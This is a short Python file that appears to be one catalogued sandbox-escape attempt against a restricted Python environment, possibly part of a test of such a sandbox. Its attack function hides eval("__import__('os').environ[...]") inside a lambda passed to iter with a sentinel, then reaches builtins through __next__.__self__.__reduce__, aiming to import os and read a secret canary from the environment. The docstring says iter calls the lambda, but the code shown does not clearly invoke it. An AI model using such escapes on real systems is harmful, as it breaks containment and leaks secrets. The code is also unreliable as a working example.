"""Class: builtins. Source: own find. Escape: iter with a sentinel calls what it is given, again
and again.
"""


def attack(model, tokenizer, address):
    return list(
        iter(
            lambda: eval("__import__('os').environ['CLOCHE_CANARY']"), 0
        ).__next__.__self__.__reduce__()
    )
